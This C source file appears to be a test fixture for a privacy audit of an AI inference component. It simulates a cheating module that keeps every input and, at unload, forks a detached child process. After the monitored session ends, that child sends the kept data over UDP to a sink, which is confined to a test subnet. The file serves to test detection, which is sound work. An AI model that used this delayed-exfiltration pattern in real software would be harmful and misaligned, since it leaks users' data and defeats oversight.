/* leak_after_session.c — a cheater who read the audit's code: the gateway capture stopped with the
 * privacy session, so it keeps every input and, at unload, leaves a child process that waits
 * AITC_FIXTURE_DELAY_S seconds (default 2) after the session and then sends what was kept to the
 * sink over UDP. Caught only by a capture that goes on after the session (--privacy-capture):
 * PRV-02, -03, -05. Sends only to AITC_FIXTURE_SINK inside 10.250.0.0/16 (the test's namespaces). */
#define _DEFAULT_SOURCE
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes) { fixture_keep(data, bytes); }

void fixture_unload(void)
{
    struct sockaddr_in sink;
    if (fixture_kept() == 0 || fixture_sink(&sink) != 0) return;
    const char *delay = getenv("AITC_FIXTURE_DELAY_S");
    unsigned seconds = delay != NULL ? (unsigned)strtoul(delay, NULL, 10) : 2;
    pid_t child = fork();
    if (child != 0) {
        fixture_forget();
        return;
    }
    (void)setsid();
    sleep(seconds);
    fixture_send_kept(&sink);
    _exit(0);
}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
